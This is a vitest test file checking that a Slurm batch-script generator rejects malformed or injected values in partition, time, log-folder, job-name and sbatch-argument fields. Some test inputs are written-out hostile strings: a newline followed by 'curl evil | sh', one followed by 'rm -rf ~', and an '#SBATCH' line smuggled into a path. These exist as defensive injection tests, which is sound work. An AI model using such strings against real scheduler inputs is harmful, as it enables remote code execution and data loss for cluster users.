import { describe, expect, it } from 'vitest';
import { batchScript, submitSlurmArrays } from '../../src/sweep/index.js';

const base = { maxAttempts: 2, manifest: '/tmp/sweep/slurm/x/manifest.jsonl', tasks: 3, logDir: '/tmp/sweep/slurm/x' };

describe('values written into the Slurm batch script', () => {
  it('accepts Slurm partition names and every Slurm time format', () => {
    for (const time of ['30', '30:00', '01:30:00', '2-0', '2-12', '2-12:30', '2-12:30:00', 'UNLIMITED']) {
      expect(batchScript({ ...base, partition: 'gpu,cpu-long', time })).toContain(`#SBATCH --time=${time}\n`);
    }
  });

  it('refuses a newline or shell text in --partition and --time with one line', () => {
    expect(() => batchScript({ ...base, partition: 'gpu\ncurl evil | sh' })).toThrow(/^--partition: got "gpu\\ncurl evil \| sh", expected a Slurm partition name/);
    expect(() => batchScript({ ...base, time: '00:30:00\nrm -rf ~' })).toThrow(/^--time: got .*, expected a Slurm time limit/);
    expect(() => batchScript({ ...base, time: '1h' })).toThrow(/^--time/);
    expect(() => batchScript({ ...base, partition: 'a;b' })).toThrow(/^--partition/);
  });

  it('refuses paths, job names, counts and sbatch arguments that would break the script', () => {
    expect(() => batchScript({ ...base, logDir: '/tmp/my sweep\n#SBATCH --x' })).toThrow(/^slurm log folder: .*without whitespace/);
    expect(() => batchScript({ ...base, jobName: 'x\ny' })).toThrow(/^job name/);
    expect(() => batchScript({ ...base, cpusPerTask: 0 })).toThrow(/^--cpus-per-task: got 0/);
    expect(() => batchScript({ ...base, maxParallel: 1.5 })).toThrow(/^--max-parallel/);
    expect(() => submitSlurmArrays('/tmp/sweep', [{ id: 'a', runDir: '/tmp/sweep/runs/a' }], { maxAttempts: 1, extraArgs: ['--account=x\ny'] })).toThrow(/^--sbatch-arg\[0\]/);
    expect(() => submitSlurmArrays('/tmp/a sweep', [{ id: 'a', runDir: '/tmp/a sweep/runs/a' }], { maxAttempts: 1 })).toThrow(/^sweep folder/);
  });
});
